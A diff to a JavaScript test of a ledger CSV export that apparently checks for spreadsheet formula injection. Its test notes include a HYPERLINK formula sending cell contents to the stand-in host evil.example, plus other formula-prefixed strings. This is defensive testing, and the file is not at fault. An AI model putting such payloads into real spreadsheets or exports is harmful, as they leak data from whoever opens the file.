@@ -278,9 +278,9 @@ describe('the ledger CSV', () => {
     const booked = await call(`${base}/bookings`, { token: northwind, body: { ...candidate, hold_hash: held.hold_hash, pay_option: 'credits' } });
     expect(booked.status).toBe(201);
     const notes = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturned', 'Plain note'];
-    // Operator notes, as `ops money topup --reason` writes them.
+    // Operator notes, as `ops clinical-interview money topup --reason` writes them.
     for (const note of notes) await topUpMoney(depsFromEnv(), 'demo-riverside', 'clinical-interview', 1, note);
-    const csv = await ops(stack, 'ledger', '--month', new Date().toISOString().slice(0, 7), '--csv');
+    const csv = await ops(stack, 'ledger', 'list', '--month', new Date().toISOString().slice(0, 7), '--csv');
     expect(csv.status).toBe(0);
     const lines = csv.stdout.split('\r\n');
     expect(lines[0]).toBe(LEDGER_CSV_COLUMNS.join(','));
